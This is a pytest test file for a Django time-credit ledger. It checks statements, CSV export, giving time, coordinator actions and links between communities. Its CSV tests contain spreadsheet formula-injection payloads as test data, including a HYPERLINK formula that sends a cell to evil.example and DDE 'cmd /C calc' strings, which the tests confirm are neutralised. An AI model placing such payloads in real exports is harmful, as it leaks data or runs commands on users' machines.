"""The time-credit pages, as a member and a coordinator see them."""

from __future__ import annotations

import csv
import io
import re
import uuid
from datetime import timedelta
from datetime import timezone as dt_timezone
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape

from coproduce.communities.models import Community, Membership
from coproduce.ledger import services
from coproduce.ledger.models import AccountLimitChange, CommunityLink, CreditRule, Transfer
from coproduce.ledger.tests.factories import (
    account_of,
    make_community,
    make_coordinator,
    make_member,
    pay,
    signed_in,
)

pytestmark = pytest.mark.django_db


def url(name: str, community: Community, **kwargs: object) -> str:
    return reverse(f"ledger:{name}", kwargs={"community": community.slug, **kwargs})


def test_my_statement_shows_balance_and_running_balance(
    community: Community, member: Membership, coordinator: Membership, member_client: Client
) -> None:
    other = make_member(community, profile__display_name="Olu")
    pay(coordinator, account_of(member), account_of(other), 90, memo="Lift to the shops")
    pay(coordinator, account_of(other), account_of(member), 30, memo="Tea")
    page = member_client.get(url("statement", community))
    assert page.status_code == 200
    html = page.content.decode()
    assert "\u22121:00" in html  # balance now
    assert "\u22121:30" in html  # balance after the first line
    assert "Lift to the shops" in html and "Olu" in html
    assert page.context["community"] == community and page.context["actor"] == member


def test_the_statement_exports_as_csv(
    community: Community, member: Membership, coordinator: Membership, member_client: Client
) -> None:
    pay(coordinator, account_of(member), account_of(make_member(community)), 90, memo="=SUM(A1)")
    response = member_client.get(url("statement_csv", community))
    assert response["Content-Type"].startswith("text/csv")
    header, line = csv.reader(io.StringIO(response.content.decode()))
    assert header[:6] == ["Date", "Kind", "From or to", "Note", "Change", "Balance"]
    assert line[3] == "'=SUM(A1)" and line[4] == line[5] == "\u22121:30"
    assert ",-90,-90," in response.content.decode()  # minutes stay numbers, unquoted


FORMULAS = {
    "Thanks;=1+2": "Thanks;'=1+2",
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")': (
        '\'=HYPERLINK("https://evil.example/?x="&A1,"Click")'
    ),
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2": "'-1+2",
    "+1": "'+1",
    "Tea,  =1+2": "Tea,  '=1+2",
    "Tea\t=1": "Tea\t'=1",
    "\t=1": "'\t'=1",
    "Line one\r\n@SUM(A1)": "Line one\r\n'@SUM(A1)",
    "Tea - lovely, thanks; see you": "Tea - lovely, thanks; see you",
}


def test_csv_cells_never_start_a_formula_however_a_spreadsheet_splits_them(
    community: Community, member: Membership, coordinator: Membership, member_client: Client
) -> None:
    """Spreadsheets in many countries split on ";" (or tabs): a note like "Thanks;=1+2" must
    not become a cell "=1+2" there. Text cells are quoted and every formula character that
    could start a cell gets an apostrophe; minutes stay numbers."""
    other = make_member(community, profile__display_name="=cmd|' /C calc'!A0")
    for memo in FORMULAS:
        pay(coordinator, account_of(member), account_of(other), 1, memo=memo)
    body = member_client.get(url("statement_csv", community)).content.decode()
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert [row[3] for row in rows] == list(FORMULAS.values())
    assert {row[2] for row in rows} == {"'=cmd|' /C calc'!A0"}
    assert [int(row[6]) for row in rows] == [-1] * len(FORMULAS)
    for separator in (";", "\t"):
        for row in csv.reader(io.StringIO(body), delimiter=separator):
            for cell in row:
                assert cell.lstrip(" ")[:1] not in "=+-@", (separator, cell)
    for text_line in body.splitlines():
        for piece in re.split(r"[;\t]", text_line):
            assert piece.lstrip(' "')[:1] not in "=+-@", piece


def test_statement_files_are_never_stored(
    community: Community, member: Membership, coordinator: Membership, member_client: Client
) -> None:
    """A browser's cache or a proxy must keep no copy of someone's statement."""
    coordinator_client = signed_in(coordinator, second_factor=True)
    for response in (
        member_client.get(url("statement_csv", community)),
        coordinator_client.get(url("account_statement_csv", community, pk=account_of(member).pk)),
    ):
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"]


def test_balance_as_of_a_date_is_shown(
    community: Community, member: Membership, member_client: Client
) -> None:
    page = member_client.get(url("statement", community), {"as_of": "2024-03-01"})
    assert "Balance at the end of 1 March 2024: 0:00" in page.content.decode()


@pytest.mark.parametrize("typed", ["9999-12-31", "0001-01-01", "2201-01-01", "1899-12-31"])
@pytest.mark.parametrize("field", ["date_from", "date_to", "as_of"])
def test_dates_outside_1900_to_2200_are_refused_beside_the_field(
    community: Community, member: Membership, member_client: Client, field: str, typed: str
) -> None:
    page = member_client.get(url("statement", community), {field: typed})
    assert page.status_code == 200
    html = page.content.decode()
    assert f'id="id_{field}_error"' in html
    assert "Choose a date from the year 1900 to the year 2200." in html
    assert f'value="{typed}"' in html
    for name, kwargs in (
        ("statement", {}),
        ("account_statement", {"pk": account_of(member).pk}),
    ):
        download = member_client.get(url(f"{name}_csv", community, **kwargs), {field: typed})
        assert download.status_code == 302
        assert download["Location"] == url(name, community, **kwargs) + f"?{field}={typed}"


def test_the_first_and_last_days_allowed_are_shown(
    community: Community, member: Membership, coordinator: Membership, member_client: Client
) -> None:
    pay(coordinator, account_of(member), account_of(make_member(community)), 90, memo="Tea")
    query = {"date_from": "1900-01-01", "date_to": "2200-12-31", "as_of": "2200-12-31"}
    html = member_client.get(url("statement", community), query).content.decode()
    assert "Balance at the end of 31 December 2200: \u22121:30" in html and "Tea" in html
    assert 'min="1900-01-01"' in html and 'max="2200-12-31"' in html
    download = member_client.get(url("statement_csv", community), query)
    assert download.status_code == 200 and "Tea" in download.content.decode()


def test_giving_twice_with_one_form_pays_once(
    community: Community, member: Membership, member_client: Client
) -> None:
    friend = make_member(community)
    data = {
        "to": f"member:{friend.pk}",
        "minutes": "1:15",
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    first = member_client.post(url("give", community), data)
    second = member_client.post(url("give", community), data)
    assert first.status_code == second.status_code == 302
    assert Transfer.objects.filter(community=community).count() == 1
    assert account_of(friend).balance == 75


@pytest.mark.parametrize(
    "typed", ["1 hour 15 minutes", "1.25", "75m", "1h15", "1 hour 15", "1 awr 15 munud"]
)
def test_the_give_page_reads_time_as_people_write_it(
    community: Community, member: Membership, member_client: Client, typed: str
) -> None:
    friend = make_member(community)
    data = {
        "to": f"member:{friend.pk}",
        "minutes": typed,
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    assert member_client.post(url("give", community), data).status_code == 302
    assert account_of(friend).balance == 75


def test_the_give_page_says_how_to_write_a_time_it_cannot_read(
    community: Community, member: Membership, member_client: Client
) -> None:
    data = {
        "to": f"member:{make_member(community).pk}",
        "minutes": "a while",
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = member_client.post(url("give", community), data)
    assert response.status_code == 400
    assert "Write the time like 1:30 or 1 hour 30 minutes." in response.content.decode()
    assert not Transfer.objects.filter(community=community).exists()


def test_a_refused_gift_explains_why_and_keeps_what_was_typed(
    community: Community, member: Membership, member_client: Client
) -> None:
    member.profile.display_name = "Sam"
    member.profile.save()
    friend = make_member(community)
    page = member_client.get(url("give", community))
    assert 'name="idempotency_key"' in page.content.decode()
    data = {
        "to": f"member:{friend.pk}",
        "minutes": "11:00",
        "memo": "Thanks",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = member_client.post(url("give", community), data)
    html = response.content.decode()
    assert response.status_code == 400
    assert "Your balance would go below \u221210:00; the most you can give now is 10:00." in html
    assert 'value="11:00"' in html and 'value="Thanks"' in html


def test_members_cannot_open_coordinator_pages(community: Community, member_client: Client) -> None:
    for name in ("coordinator", "transfer_record"):
        assert member_client.get(url(name, community)).status_code == 403


def test_another_community_is_not_found(member_client: Client) -> None:
    elsewhere = make_community()
    assert member_client.get(url("statement", elsewhere)).status_code == 404


def test_coordinators_see_every_account(
    community: Community, member: Membership, coordinator_client: Client
) -> None:
    page = coordinator_client.get(url("coordinator", community))
    assert page.status_code == 200
    assert escape(str(member)) in page.content.decode()
    assert "Community pot" in page.content.decode()


def test_a_coordinator_records_an_award_under_the_credit_rule(
    coordinator: Membership, member: Membership, coordinator_client: Client
) -> None:
    community = coordinator.community
    community.uses_issued_credits = True
    community.save()
    services.community_accounts_open_within(community=community)
    from coproduce.ledger.models import Account

    Account.objects.filter(community=community, kind="issuance").update(floor=None)
    data = {
        "kind": "award",
        "debit": "issuance",
        "credit": f"member:{member.pk}",
        "minutes": "2:00",
        "category": "",
        "memo": "Panel meeting",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = coordinator_client.post(url("transfer_record", community), data)
    assert response.status_code == 302
    transfer = Transfer.objects.get(kind="award")
    assert (transfer.minutes, transfer.minutes_given, transfer.credit_rule.version) == (120, 120, 1)
    detail = coordinator_client.get(response["Location"])
    assert "Panel meeting" in detail.content.decode()


def test_a_coordinator_reverses_a_transfer_once(
    community: Community, coordinator: Membership, member: Membership, coordinator_client: Client
) -> None:
    original = pay(coordinator, account_of(member), account_of(make_member(community)), 45)
    form = coordinator_client.get(url("transfer_reverse", community, pk=original.pk))
    assert "reversed only once" in form.content.decode()
    data = {"memo": "Wrong person", "idempotency_key": str(uuid.uuid4())}
    assert (
        coordinator_client.post(
            url("transfer_reverse", community, pk=original.pk), data
        ).status_code
        == 302
    )
    again = coordinator_client.post(
        url("transfer_reverse", community, pk=original.pk),
        {"memo": "", "idempotency_key": str(uuid.uuid4())},
    )
    assert again.status_code == 400
    assert "already been reversed" in again.content.decode()
    assert account_of(member).balance == 0


def test_a_coordinator_changes_limits_and_the_change_is_logged(
    community: Community, coordinator: Membership, member: Membership, coordinator_client: Client
) -> None:
    account = account_of(member)
    data = {"floor": "\u22125:00", "ceiling": "", "reason": "Agreed at review"}
    response = coordinator_client.post(url("account_limits", community, pk=account.pk), data)
    assert response.status_code == 302
    account.refresh_from_db()
    assert (account.floor, account.ceiling) == (-300, None)
    assert AccountLimitChange.objects.get().reason == "Agreed at review"
    statement = coordinator_client.get(url("account_statement", community, pk=account.pk))
    assert "Agreed at review" in statement.content.decode()


def test_a_coordinator_adds_a_credit_rule_version(
    community: Community, coordinator_client: Client
) -> None:
    data = {
        "starts_at": "",
        "window_start": "09:00",
        "window_end": "17:00",
        "out_of_hours": "1.5",
        "categories": "Personal care: 2",
        "stacking": "multiply",
        "note": "Fureai Kippu",
    }
    assert coordinator_client.post(url("rules", community), data).status_code == 302
    rule = CreditRule.objects.get(community=community, version=2)
    assert (rule.out_of_hours_per_mille, rule.category_per_mille) == (1500, {"personal care": 2000})
    page = coordinator_client.get(url("rules", community))
    assert "×1.5" in page.content.decode() and "personal care ×2" in page.content.decode()


RULE_FORM = {
    "window_start": "09:00",
    "window_end": "17:00",
    "out_of_hours": "1",
    "categories": "",
    "stacking": "multiply",
    "note": "",
}


def record_form(community: Community, given_at: str) -> dict[str, str]:
    giver, receiver = make_member(community), make_member(community)
    return {
        "kind": "exchange",
        "debit": f"member:{receiver.pk}",
        "credit": f"member:{giver.pk}",
        "minutes": "1:00",
        "given_at": given_at,
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }


@pytest.mark.parametrize("offset", ["-23:15", "+16:00"])
def test_a_time_typed_with_an_offset_postgresql_cannot_store_is_kept_as_the_same_moment(
    community: Community, coordinator_client: Client, offset: str
) -> None:
    """A browser sends no offset, but anyone can type one; PostgreSQL refuses beyond ±15:59."""
    moment = (timezone.now() + timedelta(days=10)).replace(second=0, microsecond=0)
    hours, minutes = int(offset[:3]), int(offset[0] + offset[4:])
    typed = moment.astimezone(dt_timezone(timedelta(hours=hours, minutes=minutes)))
    text = typed.strftime("%Y-%m-%dT%H:%M") + offset
    rules = coordinator_client.post(url("rules", community), {**RULE_FORM, "starts_at": text})
    assert rules.status_code == 302
    assert CreditRule.objects.get(community=community, version=2).starts_at == moment
    past = moment - timedelta(days=20)
    data = record_form(community, past.astimezone(typed.tzinfo).strftime("%Y-%m-%dT%H:%M") + offset)
    assert coordinator_client.post(url("transfer_record", community), data).status_code == 302
    assert Transfer.objects.get(community=community).given_at == past
    assert coordinator_client.get(url("rules", community)).status_code == 200


@pytest.mark.parametrize(
    "typed",
    ["9999-12-31T23:59:59-14:00", "9999-12-31T23:59", "0001-01-01T00:00+14:00", "2201-01-01T00:00"],
)
def test_times_outside_1900_to_2200_are_refused_beside_the_field(
    community: Community, coordinator_client: Client, typed: str
) -> None:
    """Stored past the year 9999 in UTC, a rule's start could never be read back: the rules
    page, and every transfer under a rule, would fail for the whole community."""
    rules = coordinator_client.post(url("rules", community), {**RULE_FORM, "starts_at": typed})
    record = coordinator_client.post(
        url("transfer_record", community), record_form(community, typed)
    )
    for response, field in ((rules, "starts_at"), (record, "given_at")):
        assert response.status_code == 400
        html = response.content.decode()
        assert f'id="id_{field}_error"' in html and f'value="{typed}"' in html
        assert "Choose a date from the year 1900 to the year 2200." in html
    assert not CreditRule.objects.filter(community=community, version=2).exists()
    assert not Transfer.objects.filter(community=community).exists()
    assert coordinator_client.get(url("rules", community)).status_code == 200


def test_members_read_the_rules_but_cannot_add_one(
    community: Community, member_client: Client
) -> None:
    assert member_client.get(url("rules", community)).status_code == 200
    assert member_client.post(url("rules", community), {}).status_code == 403


def test_two_communities_agree_a_link_and_a_member_gives_across(
    community: Community,
    coordinator: Membership,
    coordinator_client: Client,
    member: Membership,
    member_client: Client,
) -> None:
    there = make_community()
    their_boss = make_coordinator(there, with_login=True)
    parent = make_member(there, with_login=True)
    data = {"partner_slug": there.slug, "limit_to_partner": "10:00", "limit_from_partner": "5:00"}
    assert coordinator_client.post(url("links", community), data).status_code == 302
    link = CommunityLink.objects.get()
    their_client = signed_in(their_boss, second_factor=True)
    page = their_client.get(url("links", there))
    assert "Agree to this link" in page.content.decode()
    their_client.post(url("link_action", there, pk=link.pk, action="accept"))
    assert member_client.get(url("link_give", community, pk=link.pk)).status_code == 200
    assert parent.user is not None
    gift = {
        "email": parent.user.email.upper(),
        "minutes": "2:00",
        "memo": "For Mum",
        "idempotency_key": str(uuid.uuid4()),
    }
    assert member_client.post(url("link_give", community, pk=link.pk), gift).status_code == 302
    assert account_of(parent).balance == 120
    their_client.post(url("link_action", there, pk=link.pk, action="pause"))
    refused = member_client.post(
        url("link_give", community, pk=link.pk), {**gift, "idempotency_key": str(uuid.uuid4())}
    )
    assert "paused" in refused.content.decode()


def test_the_receiver_confirms_a_hold_on_its_page(
    community: Community, coordinator: Membership, member: Membership, member_client: Client
) -> None:
    payer = make_member(community)
    hold = services.transfer_hold(
        actor=coordinator,
        debit=account_of(payer),
        credit=account_of(member),
        kind="exchange",
        minutes=60,
    )
    page = member_client.get(url("transfer_detail", community, pk=hold.pk))
    assert "Confirm: move the credits" in page.content.decode()
    member_client.post(
        url("transfer_resolve", community, pk=hold.pk, action="post"),
        {"idempotency_key": str(uuid.uuid4())},
    )
    assert account_of(member).balance == 60


def test_the_statement_page_costs_the_same_queries_for_10_or_200_transfers(
    community: Community,
    coordinator: Membership,
    member: Membership,
    member_client: Client,
    django_assert_num_queries: object,
) -> None:
    other = make_member(community)
    for _ in range(10):
        pay(coordinator, account_of(other), account_of(member), 3)
    with CaptureQueriesContext(connection) as ten:
        assert member_client.get(url("statement", community)).status_code == 200
    for _ in range(190):
        pay(coordinator, account_of(other), account_of(member), 3)
    with django_assert_num_queries(len(ten.captured_queries)):  # type: ignore[operator]
        page = member_client.get(url("statement", community))
    assert len(page.context["lines"]) == 200


# --- Hardening (issue 7) -------------------------------------------------------------------------


def give_across(client: Client, community: Community, link: CommunityLink, email: str) -> Any:
    data = {"email": email, "minutes": "1:00", "memo": "", "idempotency_key": str(uuid.uuid4())}
    return client.post(url("link_give", community, pk=link.pk), data)


def test_a_link_not_agreed_tells_nobody_who_is_a_member_on_the_other_side(
    community: Community, coordinator: Membership, member_client: Client
) -> None:
    there = make_community()
    parent = make_member(there, with_login=True)
    link = services.community_link_create(
        actor=coordinator, partner_slug=there.slug, limit_to_partner=600, limit_from_partner=600
    )
    assert parent.user is not None
    known = give_across(member_client, community, link, parent.user.email)
    unknown = give_across(member_client, community, link, "nobody@example.org")
    assert known.status_code == unknown.status_code == 400
    errors = [response.context["form"].errors for response in (known, unknown)]
    assert errors[0] == errors[1] == {"__all__": ["This link has not been agreed yet."]}
    services.community_link_accept(actor=make_coordinator(there), link=link)
    services.community_link_pause(actor=coordinator, link=link)
    paused = [
        give_across(member_client, community, link, email).context["form"].errors
        for email in (parent.user.email, "nobody@example.org")
    ]
    assert (
        paused[0] == paused[1] == {"__all__": ["Giving to this community is paused at the moment."]}
    )
    assert not Transfer.objects.exists()


def test_on_an_agreed_link_an_address_elsewhere_is_answered_as_an_unknown_one(
    community: Community, coordinator: Membership, member_client: Client
) -> None:
    there, third = make_community(), make_community()
    link = services.community_link_create(
        actor=coordinator, partner_slug=there.slug, limit_to_partner=600, limit_from_partner=600
    )
    services.community_link_accept(actor=make_coordinator(there), link=link)
    stranger = make_member(third, with_login=True)
    assert stranger.user is not None
    elsewhere = give_across(member_client, community, link, stranger.user.email)
    unknown = give_across(member_client, community, link, "nobody@example.org")
    errors = [response.context["form"].errors for response in (elsewhere, unknown)]
    assert errors[0] == errors[1]
    assert not Transfer.objects.exists()


def test_the_record_page_refuses_a_date_out_of_range_with_a_message(
    community: Community, coordinator: Membership, coordinator_client: Client
) -> None:
    data = {
        "kind": "exchange",
        "debit": f"member:{make_member(community).pk}",
        "credit": f"member:{make_member(community).pk}",
        "minutes": "1:00",
        "given_at": "1950-06-01T10:00",
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = coordinator_client.post(url("transfer_record", community), data)
    assert response.status_code == 400
    assert "Say when the time was given" in response.content.decode()
    assert not Transfer.objects.exists()


def test_giving_past_the_links_limit_says_how_much_more_can_go(
    community: Community, coordinator: Membership, member: Membership, member_client: Client
) -> None:
    there = make_community(name="Acceptance Delta")
    parent = make_member(there, with_login=True)
    link = services.community_link_create(
        actor=coordinator, partner_slug=there.slug, limit_to_partner=300, limit_from_partner=300
    )
    services.community_link_accept(actor=make_coordinator(there), link=link)
    assert parent.user is not None
    data = {
        "email": parent.user.email,
        "minutes": "5:01",
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = member_client.post(url("link_give", community, pk=link.pk), data)
    html = response.content.decode()
    assert response.status_code == 400
    assert "You can send at most 5:00 more to Acceptance Delta for now" in html
    assert "Clearing" not in html.split("<main", 1)[-1]


def test_a_member_cancels_a_gift_they_put_on_hold_from_its_page(
    community: Community, member: Membership, member_client: Client
) -> None:
    hold = services.transfer_hold(
        actor=member,
        debit=account_of(member),
        credit=account_of(make_member(community)),
        kind="gift",
        minutes=30,
    )
    html = member_client.get(url("transfer_detail", community, pk=hold.pk)).content.decode()
    assert "Cancel the hold" in html and "Confirm: move the credits" not in html
    member_client.post(
        url("transfer_resolve", community, pk=hold.pk, action="void"),
        {"idempotency_key": str(uuid.uuid4())},
    )
    assert Transfer.objects.get(pending=hold).phase == "void"
    assert account_of(member).debits_pending == 0


def test_an_award_in_a_community_that_does_not_award_says_so_in_plain_words(
    community: Community, coordinator: Membership, coordinator_client: Client
) -> None:
    data = {
        "kind": "award",
        "debit": "issuance",
        "credit": f"member:{make_member(community).pk}",
        "minutes": "5:00",
        "memo": "",
        "idempotency_key": str(uuid.uuid4()),
    }
    response = coordinator_client.post(url("transfer_record", community), data)
    html = response.content.decode()
    assert response.status_code == 400
    assert "This community does not award credits." in html
    assert "balance would go below" not in html
    assert not Transfer.objects.exists()
